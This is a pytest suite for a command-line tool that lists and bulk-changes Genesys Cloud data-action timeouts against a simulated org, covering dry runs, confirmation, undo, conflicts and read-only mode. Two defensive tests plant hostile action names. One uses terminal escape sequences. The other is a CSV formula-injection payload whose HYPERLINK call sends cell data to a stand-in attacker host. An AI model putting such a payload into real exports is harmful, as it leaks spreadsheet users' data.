"""`gctui actions …` as a user runs it, against the simulated org over loopback: list (table,
JSON, CSV, filter, used by), set-timeout (dry run, confirm, refusals, conflicts), undo, journal
and reconcile. The sim's change ledger (/sim/control/actions/{id}/history) is the witness of
what was sent."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import math
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from gctui.cli.main import main
from gctui.genesys.regions import resolve_region
from gctui.sim import SimConfig
from gctui.sim.server import SimThread

ACTIONS = 24
CLIENT_ID = "gctui-demo"
SECRET = "gctui-demo-secret"


@dataclass
class Org:
    """The simulated org behind the CLI, and another engineer working on it."""

    sim: SimThread
    config: Path

    @property
    def url(self) -> str:
        return self.sim.base_url

    def control(self, method: str, path: str, body: object = None) -> Any:
        resp = httpx.request(method, f"{self.url}/sim/control{path}", json=body)
        resp.raise_for_status()
        return resp.json() if resp.content else None

    def history(self, action_id: str) -> dict[str, Any]:
        return self.control("GET", f"/actions/{action_id}/history")  # type: ignore[no-any-return]

    def ledger(self) -> dict[str, dict[str, int]]:
        return self.control("GET", "/actions/history")["actions"]  # type: ignore[no-any-return]

    def requests(self) -> int:
        return self.control("GET", "/stats")["requests"]  # type: ignore[no-any-return]

    def _api(self) -> httpx.Client:
        token = httpx.post(
            f"{self.url}/oauth/token", data={"grant_type": "client_credentials"}, auth=(CLIENT_ID, SECRET)
        ).json()["access_token"]
        return httpx.Client(base_url=self.url, headers={"Authorization": f"Bearer {token}"})

    def action(self, action_id: str) -> dict[str, Any]:
        with self._api() as api:
            resp = api.get(f"/api/v2/integrations/actions/{action_id}", params={"includeConfig": "true"})
            resp.raise_for_status()
            return resp.json()  # type: ignore[no-any-return]

    def edit(self, action_id: str, **fields: Any) -> None:
        """Someone else edits the action (a PATCH of their own, with the current version)."""
        with self._api() as api:
            current = api.get(f"/api/v2/integrations/actions/{action_id}", params={"includeConfig": "true"})
            body = {"version": current.json()["version"], **fields}
            api.patch(f"/api/v2/integrations/actions/{action_id}", json=body).raise_for_status()


@pytest.fixture
def org(tmp_path: Path) -> Iterator[Org]:
    config = SimConfig(
        actions=ACTIONS, flows=30, queues=2, edges=1, rate_limit=100_000, token_rate_limit=1000
    )
    with SimThread(config) as sim:
        path = tmp_path / "config.toml"
        path.write_text(
            f'default_profile = "sim"\n\n[profiles.sim]\napi_url = "{sim.base_url}"\n'
            f'client_id = "{CLIENT_ID}"\nclient_secret = "{SECRET}"\n'
        )
        yield Org(sim, path)


class FakeTerminal:
    """stdin on a terminal; ``on_read`` runs when the CLI reads the answer (the user thinking)."""

    def __init__(self, answer: str, on_read: Callable[[], None] | None = None) -> None:
        self.answer = answer
        self.on_read = on_read
        self.asked = 0

    def isatty(self) -> bool:
        return True

    def readline(self) -> str:
        self.asked += 1
        if self.on_read is not None:
            self.on_read()
        return self.answer


def gctui(org: Org, *args: str) -> int:
    return main(["--config", str(org.config), *args])


def listing(org: Org, capsys: pytest.CaptureFixture[str], *args: str) -> dict[str, Any]:
    assert gctui(org, "actions", "list", "--json", *args) == 0
    return json.loads(capsys.readouterr().out)  # type: ignore[no-any-return]


def no_tty(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO("y\n"))  # a pipe: even a "y" on it is not an answer


# --------------------------------------------------------------------------------------------- list
LIST_KEYS = {
    "id", "name", "category", "integrationId", "secure", "version", "method", "host", "timeoutSeconds",
    "effectiveTimeoutSeconds", "timeoutIsDefault", "executions", "p95Ms", "p99Ms", "errors", "timeouts",
    "headroomMs", "risk", "riskReason", "suggestedTimeoutSeconds", "suggestionReason",
}  # fmt: skip


def test_list_json_has_every_action_with_stable_keys(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
    doc = listing(org, capsys)
    assert doc["total"] == doc["count"] == ACTIONS == len(doc["actions"])
    assert doc["windowDays"] == 7 and doc["platformDefaultTimeoutSeconds"] == 10 and doc["statsError"] is None
    assert all(set(a) == LIST_KEYS for a in doc["actions"])
    ids = [a["id"] for a in doc["actions"]]
    assert len(set(ids)) == ACTIONS and set(ids) == set(org.sim.runtime.org.action_by_id)  # type: ignore[union-attr]
    for a in doc["actions"]:
        configured = org.sim.runtime.org.action_by_id[a["id"]]["config"].get("timeoutSeconds")  # type: ignore[union-attr]
        assert a["timeoutSeconds"] == configured
        assert a["effectiveTimeoutSeconds"] == (10 if configured is None else configured)
        assert a["timeoutIsDefault"] is (configured is None)
        if a["p99Ms"] is not None:
            assert a["headroomMs"] == a["effectiveTimeoutSeconds"] * 1000 - a["p99Ms"]
    assert any(a["timeoutIsDefault"] for a in doc["actions"]) and any(a["executions"] for a in doc["actions"])
    assert any(a["risk"] for a in doc["actions"]) and any(
        a["suggestedTimeoutSeconds"] for a in doc["actions"]
    )
    assert org.ledger() == {}  # a listing sends no change


def test_list_filter_and_a_bad_filter(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
    everything = listing(org, capsys)["actions"]
    doc = listing(org, capsys, "--filter", "default or timeout<=3")
    expected = [a["id"] for a in everything if a["timeoutIsDefault"] or a["effectiveTimeoutSeconds"] <= 3]
    assert expected and [a["id"] for a in doc["actions"]] == expected
    assert (
        doc["count"] == len(expected) < doc["total"] == ACTIONS and doc["filter"] == "default or timeout<=3"
    )

    assert gctui(org, "actions", "list", "--filter", "timeout<=3 and p99>") == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err.splitlines() == [
        "gctui: filter error at position 20: expected a value after '>'",
        "  timeout<=3 and p99>",
        "                     ^",
    ]


def test_list_table_and_used_by(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
    assert gctui(org, "actions", "list", "--used-by", "--filter", "not default") == 0
    out, err = capsys.readouterr()
    title, header, *rows = out.splitlines()
    assert title.startswith(f"{len(rows)} of {ACTIONS} actions · statistics over 7 days to ")
    assert title.endswith(" · default timeout 10 s (actions without one)")
    assert header.split()[:6] == ["NAME", "CATEGORY", "INTEGRATION", "SECURE", "REQUEST", "TIMEOUT"]
    assert " REASON " in header and header.endswith("  USED BY")
    assert rows and not any("(default)" in r for r in rows) and err == ""
    # Used by, checked against the sim's own dependency graph: the published flows (the
    # default `used_by_flow_filter`), a change reaches them now.
    doc = listing(org, capsys, "--used-by")
    rt = org.sim.runtime
    assert rt is not None

    def published(flow_id: str) -> bool:
        return bool(rt.org.flow_by_id[flow_id].get("publishedVersion"))

    drafts = 0
    for a in doc["actions"]:
        assert a["usedByError"] is None
        consumers = rt.org.consumers.get(a["id"], [])
        drafts += sum(not published(f) for f in consumers)
        assert sorted(f["id"] for f in a["usedBy"]) == sorted(f for f in consumers if published(f))
    assert any(a["usedBy"] for a in doc["actions"]) and drafts > 0  # the filter left some out
    plain = listing(org, capsys)
    assert "usedBy" not in plain["actions"][0]


def test_csv_cleans_a_hostile_name(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
    victim = next(iter(org.sim.runtime.org.action_by_id))  # type: ignore[union-attr]
    org.edit(victim, name="Evil\x1b[2J\x07 name\u202e,\nrow")
    assert gctui(org, "actions", "list", "--csv") == 0
    out = capsys.readouterr().out
    assert not any(ch in out for ch in "\x1b\x07\u202e\r")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == ACTIONS and list(rows[0])[:3] == ["id", "name", "category"]
    (evil,) = [r for r in rows if r["id"] == victim]
    assert evil["name"] == "Evil\\x1b[2J\\x07 name\\u202e, row"
    assert evil["secure"] in ("true", "false") and evil["timeoutIsDefault"] in ("true", "false")


def test_csv_defuses_a_name_a_spreadsheet_would_run(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
    victim = next(iter(org.sim.runtime.org.action_by_id))  # type: ignore[union-attr]
    org.edit(victim, name='=HYPERLINK("http://evil.example/?"&A1,"open")')
    assert gctui(org, "actions", "list", "--csv") == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    (evil,) = [r for r in rows if r["id"] == victim]
    assert evil["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_statistics_that_cannot_be_read(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
    """The analytics query is refused: the list still shows every action (and says why there are
    no statistics); a write that needs them refuses, nothing sent."""
    fault = {"method": "POST", "pathPattern": "/api/v2/analytics/actions/aggregates/query", "status": 400}
    org.control("POST", "/faults", {**fault, "count": 1})
    doc = listing(org, capsys)
    assert doc["count"] == ACTIONS and doc["statsError"] and "400" in doc["statsError"]
    assert all(a["executions"] is None and a["suggestedTimeoutSeconds"] is None for a in doc["actions"])
    org.control("POST", "/faults", {**fault, "count": 1})
    assert gctui(org, "actions", "set-timeout", "--filter", "risk", "--suggested", "--yes") == 1
    err = capsys.readouterr().err
    assert err.startswith("gctui: execution statistics could not be read (400 ")
    assert err.endswith(": no suggested timeouts; nothing sent\n") and org.ledger() == {}


# -------------------------------------------------------------------------------------- set-timeout
def test_dry_run_prints_the_diff_and_sends_nothing(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
    everything = listing(org, capsys)["actions"]
    targets = [a for a in everything if a["effectiveTimeoutSeconds"] != 7 or a["timeoutIsDefault"]][:3]
    ids = ",".join(a["id"] for a in targets)
    assert gctui(org, "actions", "set-timeout", "--ids", ids, "--seconds", "7", "--dry-run") == 0
    out, err = capsys.readouterr()
    lines = out.splitlines()
    assert lines[0].startswith("3 actions in ") and lines[-1] == "dry run: nothing sent"
    for a, line in zip(targets, lines[1:4], strict=True):
        before = "default (10 s)" if a["timeoutIsDefault"] else f"{a['timeoutSeconds']} s"
        assert line == f"  {a['name']}: {before} → 7 s  [{a['id']}]"
    assert err == ""
    assert all(org.history(a["id"])["applied"] == 0 for a in targets) and org.ledger() == {}
    # --json: the same plan as one document.
    assert gctui(org, "actions", "set-timeout", "--ids", ids, "--seconds", "7", "--dry-run", "--json") == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["dryRun"] is True and [c["actionId"] for c in doc["changes"]] == [a["id"] for a in targets]
    assert {c["after"] for c in doc["changes"]} == {7} and org.ledger() == {}


def test_yes_applies_once_per_action_and_undo_restores(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
    everything = listing(org, capsys)["actions"]
    targets = [a for a in everything if a["timeoutSeconds"] != 9][:4]
    assert any(a["timeoutIsDefault"] for a in everything)
    targets.append(next(a for a in everything if a["timeoutIsDefault"] and a not in targets))
    ids = [a["id"] for a in targets]
    assert gctui(org, "actions", "set-timeout", "--ids", ",".join(ids), "--seconds", "9", "--yes") == 0
    out, err = capsys.readouterr()
    assert SECRET not in out + err
    assert "batch 1 (set-timeout): 5 done" in out and "batch 1: undo it with `gctui actions undo 1`" in out
    assert err.strip() == "gctui: set-timeout 5/5 (5 done)"  # one progress line: the bulk is fast here
    for a in targets:
        hist = org.history(a["id"])
        assert hist["applied"] == 1 and hist["conflicts"] == 0
        assert hist["changes"][0]["timeoutSecondsBefore"] == a["timeoutSeconds"]
        assert hist["changes"][0]["timeoutSecondsAfter"] == 9
    assert set(org.ledger()) == set(ids)

    assert gctui(org, "actions", "undo", "1", "--yes", "--json") == 0
    report = json.loads(capsys.readouterr().out)
    assert report["batchId"] == 2 and report["kind"] == "undo" and report["originBatch"] == 1
    assert report["ok"] is True and {o["state"] for o in report["outcomes"]} == {"done"}
    for a in targets:
        hist = org.history(a["id"])
        assert hist["applied"] == 2 and hist["changes"][1]["timeoutSecondsAfter"] == a["timeoutSeconds"]
        assert org.action(a["id"])["config"].get("timeoutSeconds") == a["timeoutSeconds"]  # default again

    assert gctui(org, "actions", "journal", "--json") == 0
    journal = json.loads(capsys.readouterr().out)
    assert [b["batchId"] for b in journal["batches"]] == [2, 1]
    assert [b["kind"] for b in journal["batches"]] == ["undo", "set-timeout"]
    assert journal["batches"][0]["originBatch"] == 1 and journal["open"] == []
    for b in journal["batches"]:
        assert {e["batchId"] for e in b["entries"]} == {b["batchId"]} and b["counts"] == {"done": 5}
        assert sorted(e["actionId"] for e in b["entries"]) == sorted(ids)
    assert gctui(org, "actions", "journal") == 0
    text = capsys.readouterr().out
    assert text.startswith("batch 2  undo of batch 1  ") and "\nbatch 1  set-timeout  " in text
    assert "default (10 s) → 9 s" in text and "9 s → default (10 s)" in text


def test_filter_with_suggested_asks_on_the_terminal(
    org: Org, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    everything = listing(org, capsys)["actions"]
    expr = "suggestion and executions>0"
    wanted = {a["id"]: a["suggestedTimeoutSeconds"] for a in everything
              if a["suggestedTimeoutSeconds"] is not None and a["suggestedTimeoutSeconds"] != a["effectiveTimeoutSeconds"]}  # fmt: skip
    assert len(wanted) >= 2
    terminal = FakeTerminal("n\n")
    monkeypatch.setattr("sys.stdin", terminal)
    assert gctui(org, "actions", "set-timeout", "--filter", expr, "--suggested") == 1
    out, err = capsys.readouterr()
    assert terminal.asked == 1 and f"set the timeout of {len(wanted)} actions? [y/N] " in err
    assert "not confirmed; nothing sent" in err and org.ledger() == {}
    assert " (p99 " in out  # each line says why that value
    monkeypatch.setattr("sys.stdin", FakeTerminal("y\n"))
    assert gctui(org, "actions", "set-timeout", "--filter", expr, "--suggested") == 0
    capsys.readouterr()
    assert set(org.ledger()) == set(wanted)
    for action_id, seconds in wanted.items():
        assert org.action(action_id)["config"]["timeoutSeconds"] == seconds


def test_no_terminal_and_no_yes_refuses(
    org: Org, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    no_tty(monkeypatch)
    action_id = next(iter(org.sim.runtime.org.action_by_id))  # type: ignore[union-attr]
    for argv in (("set-timeout", "--ids", action_id, "--seconds", "5"), ("undo", "1")):
        assert gctui(org, "actions", *argv) == 2
        out, err = capsys.readouterr()
        assert out == "" and err == (
            "gctui: no terminal to confirm on: add --yes to apply, or --dry-run to see the diff; nothing sent\n"
        )
    assert org.requests() == 0


@pytest.mark.parametrize(
    ("seconds", "message"),
    [
        ("0", "timeout 0 is out of range (1-60 seconds)"),
        ("61", "timeout 61 is out of range (1-60 seconds)"),
        ("abc", "timeout 'abc' is not a whole number of seconds (1-60 seconds)"),
        ("2.5", "timeout '2.5' is not a whole number of seconds (1-60 seconds)"),
    ],
)
def test_bad_seconds_is_one_line_and_nothing_sent(
    org: Org, capsys: pytest.CaptureFixture[str], seconds: str, message: str
) -> None:
    assert gctui(org, "actions", "set-timeout", "--ids", "a,b", "--seconds", seconds, "--yes") == 2
    assert capsys.readouterr() == ("", f"gctui: {message}\n")
    assert org.requests() == 0


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--seconds", "5"], "set-timeout needs exactly one of --ids ID,… or --filter EXPR; nothing sent"),
        (["--ids", "a", "--filter", "risk", "--seconds", "5"], "set-timeout needs exactly one of --ids"),
        (["--ids", "a"], "set-timeout needs exactly one of --seconds N or --suggested; nothing sent"),
        (["--ids", "a", "--seconds", "5", "--suggested"], "set-timeout needs exactly one of --seconds"),
        (["--ids", " , ", "--seconds", "5"], "--ids is empty"),
        (["--filter", "p99>>3", "--seconds", "5"], "filter error at position 5"),
    ],
)
def test_selection_errors_exit_2_before_the_org_is_asked(
    org: Org, capsys: pytest.CaptureFixture[str], argv: list[str], message: str
) -> None:
    assert gctui(org, "actions", "set-timeout", *argv, "--yes") == 2
    out, err = capsys.readouterr()
    assert out == "" and err.startswith(f"gctui: {message}")
    assert org.requests() == 0


def test_unknown_ids_are_named_and_nothing_sent(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
    known = next(iter(org.sim.runtime.org.action_by_id))  # type: ignore[union-attr]
    argv = ["actions", "set-timeout", "--ids", f"{known},nope-1,nope-2", "--yes"]
    assert gctui(org, *argv, "--seconds", "5") == 2
    assert capsys.readouterr().err == "gctui: unknown action ids: nope-1, nope-2; nothing sent\n"
    assert gctui(org, *argv, "--suggested") == 2
    assert capsys.readouterr().err == "gctui: unknown action ids: nope-1, nope-2; nothing sent\n"
    assert org.ledger() == {}


@pytest.mark.parametrize("where", ["flag", "profile"])
def test_read_only_refuses_writes_before_anything_is_sent(
    org: Org, capsys: pytest.CaptureFixture[str], where: str
) -> None:
    flags = ["--read-only"] if where == "flag" else []
    if where == "profile":
        org.config.write_text(org.config.read_text() + "read_only = true\n")
    why = "--read-only" if where == "flag" else "profile 'sim' has read_only = true"
    action_id = next(iter(org.sim.runtime.org.action_by_id))  # type: ignore[union-attr]
    for argv, what in (
        (["set-timeout", "--ids", action_id, "--seconds", "5", "--yes"], "set-timeout"),
        (["undo", "1", "--yes"], "undo"),
        (["test", action_id, "--input", '{"id": "1"}'], "test (it runs the action)"),
    ):
        assert gctui(org, *flags, "actions", *argv) == 2
        assert capsys.readouterr().err == f"gctui: read-only mode ({why}): {what} refused; nothing sent\n"
    assert org.requests() == 0
    # A dry run only reads: read-only mode allows it.
    assert (
        gctui(org, *flags, "actions", "set-timeout", "--ids", action_id, "--seconds", "5", "--dry-run") == 0
    )
    assert org.ledger() == {}


def test_a_change_made_meanwhile_is_a_conflict_not_overwritten(
    org: Org, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """While the user reads the diff, someone else sets one of the actions to 33 s. The sim answers
    a stale version with 400 "does not match" and shows the old version to the CLI's next read
    (eventual consistency), so the CLI really sends a stale PATCH, is refused, reads again and
    reports the conflict instead of overwriting."""
    org.control(
        "PUT", "/actions/settings", {"versionMismatchStatus": 400, "staleSeconds": 60, "staleReads": 1}
    )
    everything = listing(org, capsys)["actions"]
    targets = [a for a in everything if a["timeoutSeconds"] not in (None, 8, 33)][:3]
    victim = targets[1]
    monkeypatch.setattr(
        "sys.stdin", FakeTerminal("y\n", lambda: org.edit(victim["id"], config={"timeoutSeconds": 33}))
    )
    ids = ",".join(a["id"] for a in targets)
    assert gctui(org, "actions", "set-timeout", "--ids", ids, "--seconds", "8") == 1
    out = capsys.readouterr().out
    assert "batch 1 (set-timeout): 1 conflict, 2 done" in out
    (listed,) = [line for line in out.splitlines() if line.startswith("  conflict: ")]
    assert f"{victim['name']} [{victim['id']}]" in listed and "now holds 33 s" in listed
    assert "not overwritten" in listed
    hist = org.history(victim["id"])
    assert hist["applied"] == 1 and hist["changes"][0]["timeoutSecondsAfter"] == 33  # only the other edit
    assert hist["conflicts"] == 1  # the CLI's stale PATCH was refused
    assert org.action(victim["id"])["config"]["timeoutSeconds"] == 33
    for a in (targets[0], targets[2]):
        assert org.history(a["id"])["applied"] == 1 and org.action(a["id"])["config"]["timeoutSeconds"] == 8


def test_reconcile_at_start_of_a_write(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
    """An earlier run was killed after sending: one change landed, one never left."""
    _, lost, _ = _interrupted(org)
    other = list(org.sim.runtime.org.action_by_id)[2]  # type: ignore[union-attr]
    assert gctui(org, "actions", "set-timeout", "--ids", other, "--seconds", "46", "--yes") == 0
    err = capsys.readouterr().err
    assert "gctui: journal: 1 change from an earlier run had landed: marked done" in err
    assert (
        "gctui: journal: 1 change from an earlier run never landed (batch 1): they still hold the old "
        "value; `gctui actions retry` sends them again (or --dismiss)"
    ) in err
    assert gctui(org, "actions", "journal", "--json") == 0
    doc = json.loads(capsys.readouterr().out)
    assert [(e["actionId"], e["state"]) for e in doc["open"]] == [(lost, "sent")]
    first = next(b for b in doc["batches"] if b["batchId"] == 1)
    assert first["counts"] == {"done": 1, "sent": 1}


def _interrupted(org: Org) -> tuple[str, str, dict[str, Any]]:
    """A journal an earlier run left behind: one change landed, one never left."""
    from gctui.services.actions import Journal, Kind, State, default_journal_path
    from gctui.services.health.store import history_scope

    landed, lost = list(org.sim.runtime.org.action_by_id)[:2]  # type: ignore[union-attr]
    before = {i: org.action(i) for i in (landed, lost)}
    org.edit(landed, config={"timeoutSeconds": 44})
    scope = history_scope("sim", resolve_region(org.url).api_base, CLIENT_ID)
    with Journal(default_journal_path(), scope) as journal:
        batch = journal.start_batch(Kind.SET_TIMEOUT)
        for action_id, after in ((landed, 44), (lost, 45)):
            old = before[action_id]["config"].get("timeoutSeconds")
            entry = journal.add_entry(batch.id, action_id, before[action_id]["name"], old, after)
            journal.update(entry, State.SENT, version_sent=before[action_id]["version"])
    return landed, lost, before


def test_retry_sends_what_never_landed_once_and_closes_the_old_entries(
    org: Org, capsys: pytest.CaptureFixture[str]
) -> None:
    landed, lost, _ = _interrupted(org)
    assert gctui(org, "actions", "retry", "--dry-run") == 0
    out = capsys.readouterr().out
    assert "dry run: nothing sent" in out and org.history(lost)["applied"] == 0
    assert gctui(org, "actions", "retry", "--yes") == 0
    assert "batch 2 (set-timeout): 1 done" in capsys.readouterr().out
    assert org.action(lost)["config"]["timeoutSeconds"] == 45 and org.history(lost)["applied"] == 1
    assert org.history(landed)["applied"] == 1  # only the other engineer's edit: never resent
    assert gctui(org, "actions", "journal", "--json") == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["open"] == []
    first = next(b for b in doc["batches"] if b["batchId"] == 1)
    assert first["counts"] == {"done": 1, "failed": 1}  # the lost one points at batch 2
    assert gctui(org, "actions", "retry", "--yes") == 0
    assert "nothing to retry" in capsys.readouterr().err


def test_retry_dismiss_closes_without_sending_and_read_only_refuses_a_resend(
    org: Org, capsys: pytest.CaptureFixture[str]
) -> None:
    _, lost, before = _interrupted(org)
    assert gctui(org, "--read-only", "actions", "retry", "--yes") == 2
    assert org.history(lost)["applied"] == 0
    capsys.readouterr()
    assert gctui(org, "--read-only", "actions", "retry", "--dismiss", "--yes") == 0
    assert "1 change closed in the journal (not sent)" in capsys.readouterr().err
    assert org.history(lost)["applied"] == 0
    assert org.action(lost)["config"].get("timeoutSeconds") == before[lost]["config"].get("timeoutSeconds")
    assert gctui(org, "actions", "journal", "--json") == 0
    assert json.loads(capsys.readouterr().out)["open"] == []


def test_undo_of_an_unknown_batch_and_an_empty_journal(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
    assert gctui(org, "actions", "journal") == 0
    assert capsys.readouterr().out == "no batches in this profile's journal yet\n"
    assert gctui(org, "actions", "journal", "--json") == 0
    assert json.loads(capsys.readouterr().out)["batches"] == []
    assert gctui(org, "actions", "undo", "7", "--yes") == 2
    assert capsys.readouterr().err == (
        "gctui: no batch 7 in this profile's journal (`gctui actions journal` lists them); nothing sent\n"
    )
    assert gctui(org, "actions", "undo", "last", "--yes") == 2
    assert capsys.readouterr().err == (
        "gctui: batch 'last' is not a batch id (a number: see `gctui actions journal`)\n"
    )
    assert org.ledger() == {}


def test_progress_is_throttled_counts() -> None:
    from gctui.cli.actions_common import Throttle, WriteProgress
    from gctui.services.actions import Outcome, State

    now = [0.0]
    out = io.StringIO()
    progress = WriteProgress("set-timeout", Throttle(1.0, clock=lambda: now[0]), out)
    for i in range(1, 11):
        now[0] += 0.3
        state = State.CONFLICT if i == 4 else State.DONE
        progress(Outcome(i, f"a{i}", f"n{i}", None, 5, state), i, 10)
    assert out.getvalue().splitlines() == [
        "gctui: set-timeout 4/10 (1 conflict, 3 done)",
        "gctui: set-timeout 8/10 (1 conflict, 7 done)",
        "gctui: set-timeout 10/10 (1 conflict, 9 done)",
    ]


def test_a_change_that_does_not_verify_is_listed_then_reconciled(
    org: Org, capsys: pytest.CaptureFixture[str]
) -> None:
    """The PATCH is answered, but the next read still shows the old value (eventual consistency):
    with no time left to retry the check, the change is reported as not verified (exit 1) and
    left open in the journal; the next write finds it landed."""
    org.config.write_text(org.config.read_text() + "\n[actions]\nverify_retry_seconds = 0\n")
    org.control("PUT", "/actions/settings", {"staleSeconds": 600, "staleReads": 1})
    first, second = list(org.sim.runtime.org.action_by_id)[:2]  # type: ignore[union-attr]
    assert gctui(org, "actions", "set-timeout", "--ids", first, "--seconds", "12", "--yes") == 1
    out, _ = capsys.readouterr()
    assert "batch 1 (set-timeout): 1 not verified" in out  # counted once, as what it is
    (line,) = [x for x in out.splitlines() if x.startswith("  not verified: ")]
    assert first in line and "not verified after 0 s" in line
    assert org.history(first)["applied"] == 1
    assert gctui(org, "actions", "set-timeout", "--ids", second, "--seconds", "12", "--yes") == 1
    err = capsys.readouterr().err
    assert "gctui: journal: 1 change from an earlier run had landed: marked done" in err
    assert org.history(first)["applied"] == 1  # settled by reading, never sent again


# --------------------------------------------------------------------------------------------- test
def sure_to_succeed(org: Org) -> dict[str, Any]:
    """An action whose simulated backend can never be slower than its timeout nor fail."""
    rt = org.sim.runtime
    assert rt is not None
    for action in rt.org.actions:
        prof = rt.org.action_profiles[action["id"]]
        worst_ms = prof.median_ms * math.exp(6.5 * prof.sigma)  # the sim's draws stay within ±6 sigma
        if prof.error_rate == 0 and worst_ms < rt.org.effective_timeout_s(action) * 1000:
            return action
    raise AssertionError("no action in the sim org is sure to succeed")


def valid_input(action: dict[str, Any]) -> dict[str, str]:
    examples = {"id": "42", "ani": "+3215551234", "email": "ann@example.com"}
    return {name: examples[name] for name in action["contract"]["input"]["inputSchema"]["required"]}


def test_test_with_a_good_input_runs_once(
    org: Org, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    action = sure_to_succeed(org)
    assert gctui(org, "actions", "test", action["id"], "--input", json.dumps(valid_input(action))) == 0
    out, err = capsys.readouterr()
    lines = out.splitlines()
    assert lines[0].startswith(f"test of {action['name']} [{action['id']}], timeout ")
    steps = [x for x in lines if x.startswith("   ") and x.split()[0].isdigit()]
    assert steps and all(x.split()[1] == "ok" for x in steps)
    assert lines[-1].startswith("ok in ") and err == ""
    file = tmp_path / "input.json"
    file.write_text(json.dumps(valid_input(action)))
    assert gctui(org, "actions", "test", action["id"], "--input", f"@{file}", "--json") == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["actionId"] == action["id"] and doc["success"] is True and doc["error"] is None
    assert doc["steps"] and all(s["success"] for s in doc["steps"]) and doc["finalResult"]["status"] == "OK"
    assert org.sim.runtime.org.test_counter == {action["id"]: 2}  # type: ignore[union-attr]


def test_test_input_that_breaks_the_schema_is_not_sent(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
    rt = org.sim.runtime
    assert rt is not None
    action = next(a for a in rt.org.actions if "ani" in a["contract"]["input"]["inputSchema"]["required"])
    assert gctui(org, "actions", "test", action["id"], "--input", '{"id": 5}') == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err.splitlines() == [
        "gctui: input does not match the action's schema: /: 'ani' is a required property (+1 more)",
        "  /: 'ani' is a required property",
        "  /id: 5 is not of type 'string'",
    ]
    assert rt.org.test_counter == {} and "400" not in org.control("GET", "/stats")["byStatus"]


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ('{"id": ', "gctui: invalid JSON at line 1, column 8: Expecting value"),
        ("[1, 2]", "gctui: the input must be a JSON object of input values, not an array"),
        ("@missing.json", "gctui: cannot read input file missing.json: No such file or directory"),
    ],
)
def test_test_unreadable_input_is_a_usage_error(
    org: Org, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
    value: str, message: str,
) -> None:  # fmt: skip
    monkeypatch.chdir(tmp_path)
    assert gctui(org, "actions", "test", "custom_-_x", "--input", value) == 2
    assert capsys.readouterr() == ("", message + "\n")
    assert org.requests() == 0  # not even a token


def test_test_that_times_out_exits_1(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
    rt = org.sim.runtime
    assert rt is not None
    action = sure_to_succeed(org)
    # The backend behind the action becomes slow: every execution now takes ~50 s (simulated).
    rt.org.action_profiles[action["id"]] = dataclasses.replace(
        rt.org.action_profiles[action["id"]], median_ms=50_000, sigma=0.01
    )
    timeout = rt.org.effective_timeout_s(action)
    assert gctui(org, "actions", "test", action["id"], "--input", json.dumps(valid_input(action))) == 1
    out = capsys.readouterr().out
    assert any(x.split()[1:2] == ["failed"] for x in out.splitlines() if x.startswith("   "))
    assert out.splitlines()[-1].startswith("failed in ")
    assert f"The data action timed out after {timeout} seconds (correlation id " in out.splitlines()[-1]
    assert rt.org.test_counter == {action["id"]: 1}
    assert gctui(org, "actions", "test", "no-such-action", "--input", "{}") == 2
    assert capsys.readouterr().err == "gctui: unknown action id: no-such-action; nothing sent\n"
